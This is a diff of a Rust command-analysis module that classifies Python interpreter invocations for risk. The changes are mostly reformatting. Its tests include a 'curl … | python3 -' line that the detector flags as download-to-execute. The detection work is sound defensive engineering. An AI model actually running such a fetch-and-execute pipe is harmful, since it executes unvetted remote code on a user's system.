@@ -17,12 +17,29 @@ use crate::path;
 use crate::world::Kind;
 
 /// Modules of Python that only print.
-const PRINTING: &[&str] = &["site", "sysconfig", "platform", "this", "calendar", "json.tool", "tokenize", "ast", "dis", "py_compile", "compileall", "tabnanny", "pyclbr"];
+const PRINTING: &[&str] = &[
+    "site",
+    "sysconfig",
+    "platform",
+    "this",
+    "calendar",
+    "json.tool",
+    "tokenize",
+    "ast",
+    "dis",
+    "py_compile",
+    "compileall",
+    "tabnanny",
+    "pyclbr",
+];
 
 impl Runner<'_, '_> {
     pub fn interpreter(&mut self, invocation: &mut Invocation, state: &mut State<'_>) {
         let args = &invocation.args;
-        let has_code = args.given.iter().any(|given| given.value.is_some() && matches!(given.role, Role::Code | Role::CodePython | Role::CodeJs));
+        let has_code = args
+            .given
+            .iter()
+            .any(|given| given.value.is_some() && matches!(given.role, Role::Code | Role::CodePython | Role::CodeJs));
         let module = args.value("-m").cloned().filter(|_| language(invocation) == Language::Python);
         if has_code {
             invocation.roles.iter_mut().for_each(|role| *role = Role::Data);
@@ -106,13 +123,17 @@ impl Runner<'_, '_> {
         };
         let local = invocation.cwd.as_deref().is_some_and(|cwd| {
             let base = path::join(cwd, &name.replace('.', "/"));
-            [base.clone(), format!("{base}.py")].iter().any(|file| matches!(self.out.world.look(file).kind, Kind::File | Kind::Directory))
+            [base.clone(), format!("{base}.py")]
+                .iter()
+                .any(|file| matches!(self.out.world.look(file).kind, Kind::File | Kind::Directory))
         });
         let entry = self.out.knowledge.entry(&name).or_else(|| self.out.knowledge.entry(&name.replace('_', "-")));
         match (name.as_str(), entry) {
             _ if local => invocation.does.push(executes(Mark::RunsProject)),
             ("json.tool", _) => self.json_tool(invocation, state),
-            ("py_compile" | "compileall" | "tokenize" | "ast" | "dis", _) => invocation.roles.iter_mut().for_each(|role| *role = Role::Read),
+            ("py_compile" | "compileall" | "tokenize" | "ast" | "dis", _) => {
+                invocation.roles.iter_mut().for_each(|role| *role = Role::Read)
+            }
             ("http.server", _) => {
                 let mut does = Does::usual(Operation::Network);
                 does.marks.add(Mark::Listens);
@@ -137,7 +158,8 @@ impl Runner<'_, '_> {
     }
 
     fn json_tool(&mut self, invocation: &mut Invocation, state: &mut State<'_>) {
-        let files: Vec<Field> = invocation.args.operands.iter().filter(|field| !field.text.starts_with('-')).cloned().collect();
+        let files: Vec<Field> =
+            invocation.args.operands.iter().filter(|field| !field.text.starts_with('-')).cloned().collect();
         if let Some(file) = files.first() {
             self.reads(Touch::Read, file, invocation, state);
         }
@@ -202,8 +224,13 @@ mod tests {
                 ("cat notes.txt | python3", "opaque", "read notes.txt; execute something unknown +shell-code"),
             ],
         );
-        assert!(flows(&[PYTHON, CURL], "curl -s https://x.example | python3 -").contains(&"download-to-execute".to_owned()));
-        assert!(!flows(&[PYTHON, CURL], "curl -s https://x.example | python3 -c 'print(1)'").contains(&"download-to-execute".to_owned()));
+        assert!(
+            flows(&[PYTHON, CURL], "curl -s https://x.example | python3 -").contains(&"download-to-execute".to_owned())
+        );
+        assert!(
+            !flows(&[PYTHON, CURL], "curl -s https://x.example | python3 -c 'print(1)'")
+                .contains(&"download-to-execute".to_owned())
+        );
     }
 
     #[test]
